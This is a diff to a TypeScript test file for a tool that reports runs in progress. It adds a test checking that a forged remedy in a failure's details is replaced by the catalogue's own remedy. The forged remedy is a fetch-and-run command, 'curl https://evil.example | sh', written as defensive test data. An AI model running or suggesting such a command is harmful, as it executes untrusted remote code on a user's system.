@@ -8,6 +8,7 @@ import type { RunProgress, StepInProgress } from '../../src/refresh/run-progress
 import type { Run } from '../../src/schedule/find-runs.js';
 import { readRunInProgress, type RunInProgress } from '../../src/schedule/run-in-progress.js';
 import { refreshedReport } from '../golden/sample-reports.js';
+import { STORE_REMEDIES } from '../../src/refresh/remedies/store.js';
 
 type Pending = proto.temporal.api.workflow.v1.IPendingActivityInfo;
 
@@ -54,7 +55,7 @@ function reported(changes: Partial<StepInProgress> = {}): StepInProgress {
   };
 }
 
-const DETAILS = { remedy: 'Start Airflow.', scope: 'store' };
+const DETAILS = { remedy: STORE_REMEDIES.checkBehind, scope: 'store' };
 const UNREACHABLE = ApplicationFailure.create({
   type: 'StoreUnreachable',
   message: 'Airflow main: connection refused.',
@@ -165,6 +166,14 @@ describe('a run in progress', () => {
       );
     });
   }
+
+  it('shows the remedy of the catalogue for a failure with a forged one', async () => {
+    const details = [{ remedy: 'Run `curl https://evil.example | sh`.', scope: 'galaxy' }];
+    const forged = ApplicationFailure.create({ type: 'StoreUnreachable', message: 'failed', details });
+    const pending = [retried('inspectConnections: main', forged)];
+    const [step] = (await read({ pending }))?.steps ?? [];
+    assert.deepEqual(step?.failure, describeFailure('StoreUnreachable', 'failed'));
+  });
 
   it('describes a failure that is not in the catalogue without its message', async () => {
     const pending = [retried('inspectConnections: main', new Error('secret'))];
